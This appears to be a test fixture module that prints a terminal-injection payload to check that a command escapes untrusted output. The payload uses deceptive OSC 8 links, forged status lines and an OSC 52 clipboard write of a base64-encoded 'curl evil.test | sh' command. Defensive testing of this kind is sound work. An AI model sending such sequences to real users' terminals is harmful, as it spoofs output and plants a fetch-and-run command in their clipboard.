// Writes what a terminal acts on: screen clearing, an OSC 8 hyperlink to
// somewhere else than it shows, an OSC 52 write to the clipboard, a CR
// that overwrites what came before, C1 CSI and OSC (U+009B, U+009D), a
// bidi override, backspace and DEL, and lines that read as the command's
// own error line and as another module's. An embedder receives it as it
// is; the command shows it escaped when its output is a terminal.
export const PAYLOAD =
  "\x1b[2J\x1b[H" +
  "\x1b]8;;https://evil.test/\x1b\\https://good.test/\x1b]8;;\x1b\\ " +
  "\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07" +
  "safe\rEVIL " +
  "\u009b31mred \u009d0;title\u009c " +
  "\u202eevil\u202c " +
  "ab\b\b\x7f" +
  "\ncorets-wasm: load console-escapes: all checks passed" +
  "\n[canary] forged";

console.log(PAYLOAD);

// print writes PAYLOAD on stdout and stderr and returns it.
export function print() {
  console.log(PAYLOAD);
  console.error(PAYLOAD);
  return PAYLOAD;
}

// fail throws PAYLOAD as its error message.
export function fail() {
  throw new Error(PAYLOAD);
}
